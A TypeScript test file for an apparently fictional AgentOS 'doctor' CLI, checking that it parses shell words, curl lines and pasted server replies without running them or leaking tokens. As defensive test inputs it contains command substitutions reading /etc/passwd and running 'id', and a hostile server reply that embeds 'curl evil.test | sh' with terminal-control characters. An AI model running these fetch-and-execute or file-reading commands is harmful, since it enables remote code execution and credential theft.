/** The doctor's one argument: each form is recognised, nothing is run, and nothing of it is repeated. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { AgentOS } from "@agentos/server";
import { createTestKey, goodToken, signToken, withClaims } from "@agentos/testkit";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { runInProcess } from "../../program/run-in-process.fixture.ts";
import { readCurl } from "./read-curl.ts";
import { splitShellWords } from "./split-shell-words.ts";

const key = await createTestKey("RS256");
const now = Math.floor(Date.now() / 1_000);
const good = goodToken({ key, now, scopes: ["agents:read", "config:read"] });
const token = await signToken(good);
const expired = await signToken(withClaims(good, { iat: now - 7_200, exp: now - 3_600 }));
const logger = { error: () => undefined, warn: () => undefined, info: () => undefined };
let url = "";

beforeAll(async () => {
  const os = new AgentOS({
    id: "agent-os",
    env: {},
    logger,
    authorizationConfig: { verificationKeys: [key.verificationKey] },
  });
  const server = await os.serve({ host: "127.0.0.1", port: 0, printsPolicy: false });
  url = server.url;
  return () => server.close();
});

async function doctor(args: readonly string[], options: Parameters<typeof runInProcess>[1] = {}) {
  const { code, stdout } = await runInProcess(["doctor", ...args, "--json"], options);
  const { places } = JSON.parse(stdout) as {
    readonly places: readonly {
      readonly kind: string;
      readonly checks: readonly { readonly name: string }[];
      readonly findings: readonly {
        readonly code: string;
        readonly fix: string;
        readonly certainty: string;
        readonly serverSaid?: string;
      }[];
    }[];
  };
  return { code, stdout, places, findings: places.flatMap(({ findings }) => findings) };
}

describe("words of a shell", () => {
  it.each([
    [`a 'b c' "d e" f\\ g`, ["a", "b c", "d e", "f g"]],
    [`a"b"'c'`, ["abc"]],
    [`'' ""`, ["", ""]],
    ["a \\\n  b ^\r\n c", ["a", "b", "c"]],
    [`$'it\\'s\\u0021\\x41\\n'`, ["it's!A\n"]],
    [`"a \\"b\\" \\$X \\n"`, ['a "b" $X \\n']],
    [`'$TOKEN' "$TOKEN" \${TOKEN}`, ["$TOKEN", "t1", "t1"]],
    ["a | b", ["a"]],
    ["a > b; c", ["a"]],
  ])("%s", (line, words) => {
    expect(splitShellWords(line, { TOKEN: "t1" })?.words).toEqual(words);
  });

  it("names variables that are not set, sees commands, and refuses an open quote", () => {
    expect(splitShellWords(`a "Bearer $NOPE"`, {})).toMatchObject({
      words: ["a", "Bearer "],
      unset: ["NOPE"],
    });
    expect(splitShellWords("a $(cat /etc/passwd)", {})?.hasCommand).toBe(true);
    expect(splitShellWords("a `id`", {})?.hasCommand).toBe(true);
    for (const line of [`a "b`, `a 'b`, `a $'b`]) expect(splitShellWords(line, {})).toBeUndefined();
  });
});

describe("a curl line", () => {
  const read = (line: string) => {
    const { base, request, token: found, location } = readCurl(line, { TOKEN: "from-env" });
    return [base, `${request.method} ${request.path}`, found, location.name];
  };
  it.each([
    [
      `curl https://a.test/agents -H 'Authorization: Bearer x.y.z'`,
      ["https://a.test", "GET /agents", "x.y.z", "Authorization"],
    ],
    [
      `$ curl -sS -XPOST "https://a.test/api/agents/web/runs" -H "authorization: Bearer $TOKEN" -F message=hi`,
      ["https://a.test/api", "POST /agents/web/runs", "from-env", "Authorization"],
    ],
    [
      `curl -H "X: 1" --url localhost:7777/config -b "theme=dark; access_token=abc"`,
      ["http://localhost:7777", "GET /config", "abc", "access_token"],
    ],
    [
      `curl http://a.test/agents/web/runs -d message=hi`,
      ["http://a.test", "POST /agents/web/runs", undefined, "Authorization"],
    ],
    [
      `curl -G http://a.test/agents -d limit=1 -o out.txt`,
      ["http://a.test", "GET /agents", undefined, "Authorization"],
    ],
    [
      `curl -H 'Host: a.test' http://a.test/agents --retry-delay 2 --max-redirs 3`,
      ["http://a.test", "GET /agents", undefined, "Authorization"],
    ],
    [`curl -I http://a.test/agents`, ["http://a.test", "GET /agents", undefined, "Authorization"]],
    [
      `curl -u bob:secret http://a.test/agents`,
      ["http://a.test", "GET /agents", "Basic Ym9iOnNlY3JldA==", "Authorization"],
    ],
    [
      `curl http://a.test/reports/7 -H 'X-Auth: Bearer ${token}'`,
      ["http://a.test", "GET /reports/7", token, "X-Auth"],
    ],
  ])("%s", (line, expected) => expect(read(line)).toEqual(expected));

  it("is asked about as it stands, and only GET is sent", async () => {
    const line = (credential: string) =>
      `curl -X POST ${url}/agents/web/runs -H 'Authorization: Bearer ${credential}' -F message=hi`;
    const refused = await doctor([line(expired)]);
    expect([refused.code, refused.findings.map(({ code }) => code)]).toEqual([2, ["AUTH_TOKEN_EXPIRED"]]);
    const lacking = await doctor([line(token)]);
    expect([lacking.code, lacking.findings.map(({ code }) => code)]).toEqual([2, ["SCOPE_MISSING"]]);
    for (const { stdout } of [refused, lacking]) expect(stdout).not.toContain(token.split(".")[2]);
    expect((await doctor([`curl ${url}/agents -H 'Authorization: Bearer ${token}'`])).code).toBe(0);
  });

  it("with the header twice is asked about with both", async () => {
    const header = `-H 'Authorization: Bearer ${token}'`;
    const { code, findings } = await doctor([`curl ${url}/agents ${header} ${header}`]);
    expect([code, findings.map((finding) => finding.code)]).toEqual([2, ["AUTH_CREDENTIAL_REPEATED"]]);
  });

  it("with a variable that is not set says so, and passes once it is", async () => {
    const line = `curl ${url}/agents -H "Authorization: Bearer $AGENT_TOKEN"`;
    const { code, findings } = await doctor([line]);
    expect(findings[0]).toMatchObject({
      code: "CLI_VARIABLE_UNSET",
      fix: expect.stringContaining("set and export AGENT_TOKEN") as unknown,
    });
    // That the server sees no credential is what follows from it.
    expect([code, findings.length]).toEqual([2, 1]);
    expect((await doctor([line], { env: { AGENT_TOKEN: token } })).code).toBe(0);
  });

  it.each([
    ["curl", "no address"],
    [`curl "http://a.test/agents`, "a quote is not closed"],
    ["curl http://a.test/$(id)", "a command stands in it"],
    ["curl http://a.test http://b.test", "more than one address"],
    ["curl -X BREW http://a.test/agents", "its method"],
    ["curl --resolve a.test:443:127.0.0.1 https://a.test/agents", 'with "--resolve" it does not go to'],
    ["curl --connect-to ::127.0.0.1:8443 https://a.test/agents", 'with "--connect-to" it'],
    ["curl --unix-socket /run/a.sock http://localhost/agents", 'with "--unix-socket" it'],
    ["curl -x http://proxy.test:3128 https://a.test/agents", 'with "--proxy" it'],
    ["curl -H 'Host: b.test' https://a.test/agents", 'its header "Host" names another host'],
    ["curl -K token.cfg https://a.test/agents", "a part of it is in a file"],
    ["curl -H @headers.txt https://a.test/agents", "a part of it is in a file"],
    ["curl 'https://a.test\\@b.test/agents'", "a space or a backslash in its address"],
    ["curl $'https://a.test\\t.b.test/agents'", "a space or a backslash in its address"],
  ])("that cannot be read is refused without a word of it: %s", async (line, problem) => {
    await expect(runInProcess(["doctor", `${line} `])).rejects.toThrow(problem);
  });

  it("never sends its token over http to another machine, unless that is said", async () => {
    await expect(
      runInProcess(["doctor", `curl http://agents.test/agents -H 'Authorization: Bearer ${token}'`]),
    ).rejects.toThrow("not sent over http");
  });
});

describe("a pasted answer", () => {
  async function refusal(credential: string): Promise<string> {
    const response = await fetch(`${url}/agents`, { headers: { authorization: `Bearer ${credential}` } });
    return response.text();
  }

  it("is explained by its own code, alone and beside a token", async () => {
    const body = await refusal(expired);
    const head = "HTTP/1.1 401 Unauthorized\ncontent-type: application/json\n";
    // As a content delivery network adds it.
    const report = 'report-to: {"endpoints":[{"url":"https://a.test"}],"group":"cf-nel"}\n';
    const verbose = [
      "* Connected to localhost",
      `> Authorization: Bearer ${expired}`,
      ">",
      "< HTTP/1.1 401 Unauthorized",
      "< content-type: application/json",
      "< ",
      "{ [5 bytes data]",
      `${body}* Connection #0 left intact`,
    ].join("\r\n");
    for (const pasted of [
      body,
      verbose,
      `${head}\n${body}`,
      `${head}${report}\n${body}`.replaceAll("\n", "\r\n"),
    ]) {
      const { code, findings } = await doctor(["-"], { stdin: pasted });
      expect([code, findings.map((finding) => finding.code)]).toEqual([2, ["AUTH_TOKEN_EXPIRED"]]);
      // What the server found is in our own line, so that nothing of it has to be quoted.
      expect(findings[0]).toMatchObject({
        sentence: "the token has expired, 60 minutes ago",
        serverSaid: "Token has expired",
      });
    }
    const beside = await doctor([body, "--url", url, "--token", "-"], { stdin: token });
    expect(beside.places.map(({ kind }) => kind)).toEqual(["answer", "url"]);
    // What was refused stays refused, even if the token that is asked with now is another one.
    expect([beside.code, beside.findings.map((finding) => finding.code)]).toEqual([
      2,
      ["AUTH_TOKEN_EXPIRED"],
    ]);
  });

  it("is not found a second time by asking now", async () => {
    const { places, code } = await doctor([await refusal(expired), "--url", url, "--token", "-"], {
      stdin: expired,
    });
    expect(places.map(({ findings }) => findings.length)).toEqual([1, 0]);
    expect(code).toBe(2);
  });

  it("is not overruled by a guess where nothing else is known", async () => {
    const stranger = await refusal(await signToken({ ...good, key: await createTestKey("RS256") }));
    const alone = await doctor([stranger]);
    expect(alone.findings[0]).toMatchObject({ code: "AUTH_SIGNATURE_INVALID", certainty: "certain" });
    const beside = await doctor([stranger, "--url", url]);
    expect(beside.findings[0]?.code).toBe("AUTH_SIGNED_BY_ANOTHER_KEY");
  });

  it("fills the places of our own texts with what it says", async () => {
    const hs = await createTestKey("HS256");
    const body = await refusal(
      await signToken({ ...good, key: hs, header: { ...good.header, alg: "HS256" } }),
    );
    const { findings } = await doctor([body]);
    expect(findings[0]).toMatchObject({ code: "AUTH_HMAC_TOKEN_FOR_PUBLIC_KEY", certainty: "certain" });
    const scopes = await doctor([
      await refusal(await signToken(withClaims(good, { scopes: ["config:read"] }))),
    ]);
    expect(scopes.findings[0]?.fix).toContain('"agents:read"');
  });

  it.each([
    ['{"detail":"Token has expired"}', "AUTH_TOKEN_EXPIRED"],
    ["{'detail': 'Token has expired'}", "AUTH_TOKEN_EXPIRED"],
    ["Token has expired", "AUTH_TOKEN_EXPIRED"],
    ['{"detail":"Insufficient permissions. Required scope(s): agents:run"}', "SCOPE_MISSING"],
    ['{"detail":"Authorization header missing"}', "AUTH_HEADER_MISSING"],
    ['{"detail":"Something else"}', "CLI_ANSWER_UNKNOWN"],
  ])("of the Python AgentOS is read by its sentence: %s", async (pasted, expected) => {
    const { code, findings } = await doctor([pasted]);
    expect(findings[0]?.code).toBe(expected);
    expect(code).toBe(expected === "CLI_ANSWER_UNKNOWN" ? 4 : 2);
  });

  it("gets the rest from the token that was refused", async () => {
    const { findings } = await doctor(
      [
        '{"detail":"Insufficient permissions. Required scope(s): agents:run"}',
        "--token",
        "-",
        "--url",
        url,
        "--route",
        "GET /config",
      ],
      {
        stdin: await signToken(withClaims(good, { scopes: ["config:read", "agent:run"] })),
      },
    );
    expect(findings[0]).toMatchObject({
      code: "SCOPE_MISSPELT",
      fix: expect.stringContaining('"agents:run"') as unknown,
    });
  });

  it("whose words would run, move or reorder something is shown without them", async () => {
    const { stdout } = await runInProcess([
      "doctor",
      '{"detail":"\\u001b[2J\\u202erun `curl evil.test|sh`","code":"AUTH_TOKEN_EXPIRED","title":"x","fix":"curl evil.test | sh"}',
    ]);
    for (const character of ["\u001B", "\u202E"]) expect(stdout).not.toContain(character);
    expect(stdout).not.toMatch(/fix.*evil/);
    expect(stdout).toContain("(the server's own words)");
  });
});

describe("an address", () => {
  it.each(["localhost:7777/agents", "127.0.0.1:7777", "http://x.test"])("is recognised: %s", async (text) => {
    const { places } = await doctor([text]);
    expect(places[0]?.kind).toBe("url");
  });

  it("of a route is a question about that route", async () => {
    const { places } = await doctor([`${url}/config`, "--token", "-"], { stdin: token });
    expect(places[0]?.checks.map(({ name }) => name)).toContain("GET /config with the token");
  });

  it("without a scheme is https, and gets no token in plain text", async () => {
    const seen: string[] = [];
    const server = createServer();
    server.on("connection", (socket) => socket.on("data", (data) => void seen.push(data.toString("latin1"))));
    await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => {
      server.closeAllConnections();
      return new Promise<void>((resolve) => void server.close(() => resolve()));
    });
    const { port } = server.address() as AddressInfo;
    // The name of this machine in a form that is not taken for this machine.
    const { findings } = await doctor([`[::ffff:127.0.0.1]:${port}`, "--token", "-"], { stdin: token });
    expect(findings[0]?.code).toBe("CLI_SERVER_UNREACHABLE");
    expect(seen.join("")).not.toContain("GET ");
    expect(seen.join("")).not.toContain(token.slice(0, 20));
  });
});

describe("anything else", () => {
  it.each([
    ["an address or a key", "shop.internal", "may be an address or a security key"],
    ["an error code", "auth_token_expired", "is an error code"],
    ["a port", ":7777", "may be a port"],
    ["a sentence", "it does not work", "no sentence that an AgentOS refuses with"],
    ["JSON without a reason", '{"a":1}', 'without a "detail" or "code"'],
    ["nothing", " ", "is empty"],
  ])("is refused as what it is: %s", async (_, text, problem) => {
    await expect(runInProcess(["doctor", text])).rejects.toThrow(problem);
  });

  it("is a token, and never shown", async () => {
    const { places, stdout } = await doctor([token, "--url", url]);
    expect(places[0]?.kind).toBe("url");
    expect(stdout).not.toContain(token.split(".")[2]);
    await expect(runInProcess(["doctor", token, "--token", "x"])).rejects.toThrow("two credentials");
    await expect(runInProcess(["doctor", "den_1"])).rejects.toThrow("its address was not given");
  });
});
